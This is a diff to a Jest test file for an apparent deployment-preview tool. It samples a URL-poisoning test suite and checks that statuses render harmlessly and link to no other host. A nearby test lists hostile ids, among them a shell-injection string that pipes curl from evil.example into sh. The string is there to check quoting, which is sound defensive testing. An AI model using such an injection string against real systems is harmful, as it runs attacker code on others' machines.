@@ -2,6 +2,7 @@
 import { afterEach, beforeEach, describe, expect, test } from "@jest/globals";
 import type { StepRun } from "../../emulator/runner/step.js";
 import { rendered } from "../../scripts/rendering.js";
+import { processesOnly } from "../one-process/run-step.js";
 import { expectHarmless, expectNoMentions, expectPrintable } from "../runner/hostile-text.js";
 import { World } from "./previewing.js";
 
@@ -56,25 +57,29 @@ function poison(url: string): void {
   }
 }
 
-describe.each(urls)("with the address %j in the statuses of records", (url) => {
-  test("a sweep's table, a closed preview, and its comment link to no other host", async () => {
-    await world.preview("opened", inputs);
-    poison(url);
-    expectHarmlessRun(await world.schedule({ ...inputs, "dry-run": "true" }));
-    expectHarmlessRun(await world.preview("closed", inputs));
-    poison(url);
-    expectHarmlessRun(await world.schedule(inputs));
-  });
+// One in three of them; `npm run test:all` tries all.
+describe.each(urls.filter((_, index) => processesOnly || index % 3 === 0))(
+  "with the address %j in the statuses of records",
+  (url) => {
+    test("a sweep's table, a closed preview, and its comment link to no other host", async () => {
+      await world.preview("opened", inputs);
+      poison(url);
+      expectHarmlessRun(await world.schedule({ ...inputs, "dry-run": "true" }));
+      expectHarmlessRun(await world.preview("closed", inputs));
+      poison(url);
+      expectHarmlessRun(await world.schedule(inputs));
+    });
 
-  test("warnings of unfinished creates, and the refusal of a second create, show it as text", async () => {
-    world.service.inject({ operation: "create-deployment", mishap: { status: 502 }, times: 2 });
-    await world.preview("opened", inputs);
-    await world.manual(production);
-    poison(url);
-    expectHarmlessRun(await world.manual(production));
-    expectHarmlessRun(await world.preview("synchronize", inputs));
-  });
-});
+    test("warnings of unfinished creates, and the refusal of a second create, show it as text", async () => {
+      world.service.inject({ operation: "create-deployment", mishap: { status: 502 }, times: 2 });
+      await world.preview("opened", inputs);
+      await world.manual(production);
+      poison(url);
+      expectHarmlessRun(await world.manual(production));
+      expectHarmlessRun(await world.preview("synchronize", inputs));
+    });
+  },
+);
 
 test.each(["x';curl${IFS}evil.example|sh;'", "`curl`", "--help", "@octocat"])(
   "the command that releases a record has the id %j in single quotes",
